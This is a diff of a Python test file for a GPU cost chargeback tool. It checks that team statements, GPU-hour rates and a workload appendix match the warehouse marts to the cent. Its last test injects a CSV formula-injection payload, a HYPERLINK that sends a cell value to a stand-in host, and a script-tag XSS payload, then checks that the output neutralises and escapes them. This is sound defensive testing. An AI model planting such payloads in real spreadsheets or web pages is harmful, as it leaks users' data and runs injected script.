@@ -1,8 +1,10 @@
-"""Team statements: every line and total equals fct_chargeback_monthly to the cent."""
+"""Team statements: every line and total equals fct_chargeback_monthly to the cent; the GPU-hours,
+rates, cost kinds and workload appendix are checked against the marts they come from."""
 
 from __future__ import annotations
 
 import csv
+import html
 from decimal import Decimal
 from pathlib import Path
 
@@ -62,7 +64,10 @@ def test_every_statement_line_and_total_equals_the_chargeback_mart(
     expected = _chargeback(generated_warehouse)
     assert len(expected) >= 5, "the generated month should have the five teams and __unallocated__"
     files = sorted(statements_dir.glob("*.csv"))
-    assert len(files) == len(expected)
+    assert len(files) == 3 * len(expected)  # the statement, its GPU-hours, its workloads
+    assert len([f for f in files if not f.stem.endswith(("_gpu_hours", "_workloads"))]) == len(
+        expected
+    )
     grand_total = Decimal(0)
     for (team, currency), projects in expected.items():
         path = statements_dir / f"statement_{MONTH}_{team}_{currency}.csv"
@@ -228,3 +233,213 @@ def test_confidence_bands():
     assert confidence_band(0.5) == "medium"
     assert confidence_band(Decimal("0.1")) == "low"
     assert confidence_band("likely") == "likely"
+
+
+# -------------------------------------------------------------------------------------------------
+# GPU-hours and unit rates, cost kinds in words, the workload appendix (issue 21)
+
+
+def test_gpu_hours_and_rates_per_gpu_model_come_from_fct_gpu_usage(
+    generated_warehouse, statements_dir
+):
+    statements = read_statements(generated_warehouse.path, MONTH)
+    usage = generated_warehouse.sql(
+        f"""
+        select team_id, billing_currency, gpu_model, usage_kind, sum(gpu_hours), sum(billed_cost)
+        from marts.fct_gpu_usage where strftime(billing_period_start, '%Y-%m') = '{MONTH}'
+        group by all
+        """
+    )
+    expected = {(r[0], r[1], r[2], r[3]): (r[4], r[5]) for r in usage}
+    idle = dict(
+        generated_warehouse.sql(
+            f"""
+            select allocations.team_id || '|' || lines.gpu_model, sum(allocations.billed_cost)
+            from marts.fct_cost_allocation as allocations
+            inner join (select distinct charge_id, gpu_model from marts.fct_gpu_usage) as lines
+                on allocations.charge_id = lines.charge_id
+            where allocations.allocation_kind = 'idle'
+                and allocations.allocation_basis not like '%:%'
+                and strftime(allocations.billing_period_start, '%Y-%m') = '{MONTH}'
+            group by 1
+            """
+        )
+    )
+    seen = set()
+    for statement in statements:
+        for line in statement.gpu_lines:
+            key = (statement.team_id, statement.billing_currency, line.gpu_model, line.usage_kind)
+            hours, cost = expected[key]
+            seen.add(key)
+            assert line.gpu_hours == hours
+            assert abs(line.gpu_time_cost - cost) < CENT  # rounded, never by a cent or more
+            assert line.gpu_time_rate == (cost / hours).quantize(Decimal("0.0001"))
+            carried = (
+                idle.get(f"{statement.team_id}|{line.gpu_model}", 0)
+                if line.usage_kind == "usage"
+                else 0
+            )
+            assert line.effective_rate == ((cost + carried) / hours).quantize(Decimal("0.0001"))
+    # every GPU-hour of the month is on one statement: the workloads' on their teams', idle on __idle__
+    assert seen == set(expected)
+    total_hours = sum((s.gpu_hours for s in statements), Decimal(0))
+    (usage_hours,) = generated_warehouse.sql(
+        f"select sum(gpu_hours) from marts.fct_gpu_usage "
+        f"where strftime(billing_period_start, '%Y-%m') = '{MONTH}'"
+    )[0]
+    assert total_hours == usage_hours > 0
+    # the CSV carries the same figures
+    nlp = next(s for s in statements if s.team_id == "nlp")
+    rows = _read_csv(statements_dir / f"statement_{MONTH}_nlp_USD_gpu_hours.csv")
+    assert [
+        (r["gpu_model"], Decimal(r["gpu_hours"]), Decimal(r["gpu_time_cost"])) for r in rows
+    ] == [(line.gpu_model, line.gpu_hours, line.gpu_time_cost) for line in nlp.gpu_lines]
+    page = (statements_dir / f"statement_{MONTH}_nlp_USD.html").read_text()
+    assert "GPU-hours and unit rates" in page and f"{nlp.gpu_hours:,.2f} GPU-hours" in page
+
+
+def test_cost_kinds_in_plain_words_add_up_to_the_statement(generated_warehouse, statements_dir):
+    from gpucost.commands.statements_labels import KIND_LABELS
+
+    expected = _chargeback(generated_warehouse)
+    for (team, currency), projects in expected.items():
+        rows = _read_csv(statements_dir / f"statement_{MONTH}_{team}_{currency}.csv")
+        kinds = {r["cost_kind"]: r for r in rows if r["line_type"] == "kind_total"}
+        for kind in KINDS:
+            mart = sum((amounts[kind] for amounts in projects.values()), Decimal(0))
+            if mart:
+                assert Decimal(kinds[kind]["billed_cost"]) == mart, (team, kind)
+                assert kinds[kind]["description"].startswith(KIND_LABELS[kind])
+            else:
+                assert kind not in kinds
+        total = next(r for r in rows if r["line_type"] == "total")
+        assert sum((Decimal(r["billed_cost"]) for r in kinds.values()), Decimal(0)) == Decimal(
+            total["billed_cost"]
+        )
+        page = (statements_dir / f"statement_{MONTH}_{team}_{currency}.html").read_text()
+        for kind in kinds:
+            assert f"<td>{KIND_LABELS[kind]}</td>" in page
+
+
+def test_the_workload_mart_adds_up_to_the_allocation(generated_warehouse):
+    """rpt_statement_workloads holds every allocation row that names a workload, and no more."""
+    rows = generated_warehouse.sql(
+        """
+        with mart as (
+            select billing_period_start, billing_currency, team_id, attribution_method,
+                sum(billed_cost) as billed, sum(effective_cost) as effective, sum(gpu_hours) as hours
+            from marts.rpt_statement_workloads group by all
+        ),
+        source as (
+            select billing_period_start, billing_currency, team_id, attribution_method,
+                sum(billed_cost) as billed, sum(effective_cost) as effective
+            from marts.fct_cost_allocation where workload_id is not null group by all
+        )
+        select source.team_id, source.attribution_method, source.billed, mart.billed,
+            source.effective, mart.effective
+        from source full outer join mart using (billing_period_start, billing_currency, team_id,
+            attribution_method)
+        """
+    )
+    assert rows
+    for team, method, billed, mart_billed, effective, mart_effective in rows:
+        assert mart_billed == billed and mart_effective == effective, (team, method)
+    (hours, mart_hours) = generated_warehouse.sql(
+        "select (select sum(gpu_hours) from marts.fct_gpu_usage where usage_kind = 'usage'), "
+        "(select sum(gpu_hours) from marts.rpt_statement_workloads)"
+    )[0]
+    assert mart_hours == hours
+    # an inferred placement always says why: the model's signals, the rule that matched and on what
+    missing = generated_warehouse.sql(
+        "select attribution_method, count(*) from marts.rpt_statement_workloads "
+        "where attribution_method in ('model', 'rule', 'override') "
+        "and coalesce(attribution_signals, '') = '' group by 1"
+    )
+    assert missing == []
+    rules = generated_warehouse.sql(
+        "select attribution_rule_id, attribution_signals from marts.rpt_statement_workloads "
+        "where attribution_method = 'rule'"
+    )
+    for rule_id, signals in rules:
+        assert signals.startswith(f"rule {rule_id}: ")
+
+
+def test_the_appendix_backs_each_method_to_the_cent(generated_warehouse, statements_dir):
+    statements = read_statements(generated_warehouse.path, MONTH)
+    methods_seen = set()
+    for statement in statements:
+        attribution = dict(statement.attribution)
+        by_method: dict[str, Decimal] = {}
+        for line in statement.workloads:
+            by_method[line.attribution_method] = (
+                by_method.get(line.attribution_method, Decimal(0)) + line.billed_cost
+            )
+        for method, cents in attribution.items():
+            backed = by_method.get(method, Decimal(0)) + statement.workload_remainders.get(
+                method, Decimal(0)
+            )
+            assert backed == cents, (statement.team_id, method)
+            methods_seen.add(method)
+        assert set(by_method) <= set(attribution)
+        # the exact amounts behind the appendix: the team's workload rows of each method
+        exact = dict(
+            generated_warehouse.sql(
+                "select attribution_method, sum(billed_cost) from marts.fct_cost_allocation "
+                f"where team_id = '{statement.team_id}' and workload_id is not null group by 1"
+            )
+        )
+        for method, amount in by_method.items():
+            count = sum(1 for line in statement.workloads if line.attribution_method == method)
+            assert abs(amount - exact[method]) <= CENT * (count + 1), (statement.team_id, method)
+        assert sum((line.gpu_hours for line in statement.workloads), Decimal(0)) == sum(
+            (g.gpu_hours for g in statement.gpu_lines if g.usage_kind == "usage"), Decimal(0)
+        )
+        for line in statement.workloads:
+            if line.attribution_method in ("model", "rule"):
+                assert line.attribution_signals, line.workload_id
+    assert "model" in methods_seen, "the generated month has model placements"
+
+    # the model-placed part of a team's charge is backed by the appendix, and the CSV says so
+    team = max(
+        (s for s in statements if dict(s.attribution).get("model")),
+        key=lambda s: dict(s.attribution)["model"],
+    )
+    rows = _read_csv(statements_dir / f"{team.file_stem}_workloads.csv")
+    model_rows = [r for r in rows if r["attribution_method"] == "model"]
+    assert (
+        sum((Decimal(r["billed_cost"]) for r in model_rows), Decimal(0))
+        == dict(team.attribution)["model"]
+    )
+    assert all(r["attribution_signals"] for r in model_rows if r["workload_id"])
+    assert sum((Decimal(r["billed_cost"]) for r in rows), Decimal(0)) == team.total_billed
+    page = (statements_dir / f"{team.file_stem}.html").read_text()
+    assert "Appendix: the workloads behind the charge" in page
+    first = next(line for line in team.workloads if line.attribution_method == "model")
+    assert html.escape(first.attribution_signals) in page
+
+
+def test_appendix_text_is_escaped_in_csv_and_html(generated_warehouse, tmp_path):
+    """A landed value reaches the appendix (a pod name, a signal): neutralised in the CSV, escaped in
+    the page."""
+    copy = generated_warehouse.copy("statements_hostile_appendix")
+    formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    markup = "<script>alert(1)</script>"
+    with duckdb.connect(str(copy)) as con:
+        (row_id,) = con.sql(
+            "select statement_workload_id from marts.rpt_statement_workloads "
+            "where team_id = 'nlp' order by billed_cost desc limit 1"
+        ).fetchone()
+        con.execute(
+            "update marts.rpt_statement_workloads set user_id = ?, attribution_signals = ? "
+            "where statement_workload_id = ?",
+            [formula, markup, row_id],
+        )
+    assert cli.main(
+        ["statements", "--month", MONTH, "--team", "nlp", "--warehouse", str(copy),
+         "--out", str(tmp_path)]
+    ) == 0  # fmt: skip
+    rows = _read_csv(tmp_path / f"statement_{MONTH}_nlp_USD_workloads.csv")
+    hostile = [r for r in rows if r["attribution_signals"] == markup]
+    assert len(hostile) == 1 and hostile[0]["user_id"] == "'" + formula
+    page = (tmp_path / f"statement_{MONTH}_nlp_USD.html").read_text()
+    assert markup not in page and html.escape(markup) in page
